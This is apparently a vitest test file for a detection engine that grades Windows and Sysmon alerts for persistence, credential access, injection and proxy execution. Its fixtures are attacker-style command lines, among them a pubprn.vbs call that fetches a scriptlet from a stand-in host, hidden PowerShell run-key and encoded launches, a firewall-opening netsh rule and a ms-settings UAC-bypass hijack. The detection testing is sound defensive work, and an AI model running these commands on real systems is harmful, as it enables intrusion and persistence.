import { describe, expect, test } from 'vitest';
import { readAlert } from '../../../src/model/offline/alert.js';
import { assess } from '../../../src/model/offline/assess.js';
import { scoreFeatures } from '../../../src/model/offline/features.js';
import { observe } from '../../../src/model/offline/results.js';
import type { Transcript } from '../../../src/model/offline/transcript.js';
import type { AlertFacts } from '../../../src/model/offline/types.js';
import { alertFacts } from './harness.js';

const system32 = 'C:\\Windows\\System32';

function alertOf(fields: Partial<AlertFacts>): AlertFacts {
  return alertFacts(fields, 'alert');
}

/** Features and verdict from the alert's own fields alone (no tool answered). */
function judge(fields: Partial<AlertFacts>) {
  const alert = alertOf(fields);
  const observations = observe(alert, { exchanges: [], submissions: [] } as unknown as Transcript);
  const features = scoreFeatures(alert, observations);
  const byId = new Map(features.map((feature) => [feature.id, feature.weight]));
  return { byId, verdict: assess(alert, observations, features, new Set(), 0).verdict };
}

/** Does the alert's own event alone raise this feature? */
function raises(fields: Partial<AlertFacts>, feature: string): boolean {
  return judge(fields).byId.has(feature);
}

describe('offline analyst reasoning from the alerted event', () => {
  test('the service control manager starting PowerShell is a service running a command', () => {
    const judged = judge({
      image: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      commandLine: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -c "write-host hi"`,
      parentImage: `${system32}\\services.exe`,
    });
    expect(judged.byId.get('service-spawned-shell')).toBeGreaterThan(0);
    expect(judged.verdict).not.toBe('benign');
    expect(
      raises(
        { image: `${system32}\\svchost.exe`, parentImage: `${system32}\\services.exe` },
        'service-spawned-shell',
      ),
    ).toBe(false);
  });

  test("a script shipped with Windows starting its helpers is not delivery; a user's script is", () => {
    const os = judge({
      image: `${system32}\\cmd.exe`,
      commandLine: 'cmd /c reg export HKLM\\SYSTEM\\x out.txt',
      parentImage: `${system32}\\cscript.exe`,
      parentCommandLine: `${system32}\\cscript.exe ${system32}\\gatherNetworkInfo.vbs`,
    });
    expect(os.byId.has('delivery-lineage')).toBe(false);
    expect(os.verdict).toBe('benign');
    const dropped = judge({
      image: `${system32}\\cmd.exe`,
      commandLine: 'cmd /c whoami',
      parentImage: `${system32}\\cscript.exe`,
      parentCommandLine: `${system32}\\cscript.exe C:\\Users\\bob\\AppData\\Local\\Temp\\a.vbs`,
    });
    expect(dropped.byId.get('delivery-lineage')).toBeGreaterThan(0);
    // An argument beyond the OS script (a moniker, a URL) keeps it suspect.
    const proxied = judge({
      image: `${system32}\\cmd.exe`,
      parentImage: `${system32}\\cscript.exe`,
      parentCommandLine: `${system32}\\cscript.exe ${system32}\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://x.example/a.sct`,
    });
    expect(proxied.byId.get('delivery-lineage')).toBeGreaterThan(0);
  });

  test('an autostart entry that runs a shell or a user-writable file weighs more than one that runs an installed program', () => {
    const runKey = 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';
    const shell = judge({
      image: `${system32}\\reg.exe`,
      targetObject: runKey,
      details: 'powershell.exe -w hidden -c "iex $x"',
    });
    const installed = judge({
      image: 'C:\\Program Files\\Vendor\\agent.exe',
      targetObject: runKey,
      details: '"C:\\Program Files\\Vendor\\agent.exe" /background',
    });
    expect(shell.byId.get('persistence')).toBeGreaterThan(installed.byId.get('persistence') ?? 0);
    expect(shell.verdict).not.toBe('benign');
    expect(installed.verdict).toBe('benign');
  });

  test('LSASS opened by a Windows session manager is routine; by a program from a user folder it is not', () => {
    const lsass = `${system32}\\lsass.exe`;
    expect(raises({ image: `${system32}\\wininit.exe`, targetImage: lsass }, 'credential-access')).toBe(
      false,
    );
    // The same name outside System32 is a masquerade, not the session manager.
    expect(raises({ image: 'C:\\Users\\Public\\wininit.exe', targetImage: lsass }, 'credential-access')).toBe(
      true,
    );
    expect(judge({ image: 'C:\\Users\\bob\\Desktop\\tool.exe', targetImage: lsass }).verdict).not.toBe(
      'benign',
    );
  });

  test('a shell-open hijack in the per-user classes hive (HKU\\<SID>_Classes) is UAC-bypass persistence', () => {
    const judged = judge({
      image: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      targetObject: 'HKU\\S-1-5-21-1-1104_Classes\\ms-settings\\Shell\\Open\\command\\DelegateExecute',
      details: '(Empty)',
    });
    expect(judged.byId.get('persistence')).toBeGreaterThan(0);
    expect(judged.verdict).not.toBe('benign');
    expect(
      raises(
        {
          image: `${system32}\\svchost.exe`,
          targetObject: 'HKU\\S-1-5-21-1-1104_Classes\\Local Settings\\MuiCache\\1\\52C64B7E',
        },
        'persistence',
      ),
    ).toBe(false);
  });

  test('a thread started in another process is injection, unless a Windows session manager starts it', () => {
    const notepad = `${system32}\\notepad.exe`;
    const injected = judge({
      eventId: 8,
      image: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      targetImage: notepad,
    });
    expect(injected.byId.get('process-injection')).toBeGreaterThan(0);
    expect(injected.verdict).not.toBe('benign');
    expect(
      raises({ eventId: 8, image: `${system32}\\csrss.exe`, targetImage: notepad }, 'process-injection'),
    ).toBe(false);
    // csrss.exe outside System32 is a masquerade; an event other than Sysmon 8 is not a remote thread.
    expect(
      raises(
        { eventId: 8, image: 'C:\\Users\\Public\\csrss.exe', targetImage: notepad },
        'process-injection',
      ),
    ).toBe(true);
    expect(
      raises(
        {
          eventId: 10,
          image: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
          targetImage: notepad,
        },
        'process-injection',
      ),
    ).toBe(false);
  });

  test('Notepad hosting PowerShell, talking to the network or starting programs hosts injected code', () => {
    const notepad = `${system32}\\notepad.exe`;
    const sma =
      'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\x\\System.Management.Automation.ni.dll';
    expect(judge({ eventId: 7, image: notepad, imageLoaded: sma }).byId.get('hosted-code')).toBeGreaterThan(
      0,
    );
    expect(judge({ eventId: 3, image: notepad, destination: '172.18.39.105' }).verdict).not.toBe('benign');
    expect(
      raises(
        {
          eventId: 17,
          image: notepad,
          pipeName: '\\PSHost.1322.7808.DefaultAppDomain.notepad',
        },
        'hosted-code',
      ),
    ).toBe(true);
    expect(raises({ image: `${system32}\\PING.EXE`, parentImage: notepad }, 'hosted-code')).toBe(true);
    expect(
      raises({ eventId: 7, image: notepad, imageLoaded: `${system32}\\WsmSvc.dll` }, 'hosted-code'),
    ).toBe(true);
    expect(raises({ eventId: 4103, image: notepad }, 'hosted-code')).toBe(true);
    expect(
      raises(
        {
          eventId: 7,
          image: notepad,
          imageLoaded:
            'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\Microsoft.We0722664#\\x\\Microsoft.WSMan.Management.ni.dll',
        },
        'hosted-code',
      ),
    ).toBe(true);
    // PowerShell loading its own engine, and Notepad opening a file, are what those programs do.
    expect(
      raises(
        {
          eventId: 7,
          image: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
          imageLoaded: sma,
        },
        'hosted-code',
      ),
    ).toBe(false);
    expect(
      raises(
        { eventId: 1, image: notepad, commandLine: `${notepad} C:\\Users\\bob\\notes.txt` },
        'hosted-code',
      ),
    ).toBe(false);
  });

  test('opening the firewall from a console is worth a human look', () => {
    const judged = judge({
      image: `${system32}\\netsh.exe`,
      commandLine: 'netsh advfirewall firewall add rule name=x dir=in action=allow localport=450',
      parentImage: `${system32}\\cmd.exe`,
    });
    expect(judged.byId.get('defense-tampering')).toBeGreaterThan(0);
    expect(judged.verdict).not.toBe('benign');
  });

  test('a LOLBin registering a provider DLL from a user-writable folder is proxy execution', () => {
    const judged = judge({
      image: 'C:\\Windows\\SysWOW64\\Register-CimProvider.exe',
      commandLine: '"C:\\Windows\\SysWow64\\Register-CimProvider.exe" -Path C:\\ProgramData\\x.dll',
      parentImage: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    });
    expect(judged.byId.get('proxy-execution')).toBeGreaterThan(0);
    expect(judged.verdict).not.toBe('benign');
  });
});

describe('offline analyst reading PowerShell pipeline events', () => {
  test('takes the host application of a 4103 event for the process, and judges its command line', () => {
    const event = {
      EventID: '4103',
      Hostname: 'WORKSTATION5.theshire.local',
      ExecutionProcessID: '2488',
      Payload: 'CommandInvocation(Set-Alias): "Set-Alias"',
      ContextInfo:
        '        Severity = Informational\r\n        Host Application = C:\\windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noP -sta -w 1 -enc SQBGACgAJABQAFMAVgBFAHIA\r\n        Engine Version = 5.1',
    };
    const alert = readAlert([
      {
        role: 'user',
        content: [
          {
            type: 'data',
            label: 'alert',
            trust: 'untrusted',
            ref: 'r',
            value: { id: 'a', title: 't', event },
          },
        ],
      },
    ]);
    expect(alert.image).toBe('C:\\windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
    expect(alert.commandLine).toBe(
      'C:\\windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noP -sta -w 1 -enc SQBGACgAJABQAFMAVgBFAHIA',
    );
    expect(alert.processId).toBe(2488);
    const bare = readAlert([
      {
        role: 'user',
        content: [
          {
            type: 'data',
            label: 'alert',
            trust: 'untrusted',
            ref: 'r',
            value: { id: 'a', event: { HostApplication: 'powershell -nop' } },
          },
        ],
      },
    ]);
    expect(bare.image).toBe('powershell.exe');
    expect(judge({ image: alert.image ?? '', commandLine: alert.commandLine ?? '' }).verdict).not.toBe(
      'benign',
    );
  });
});
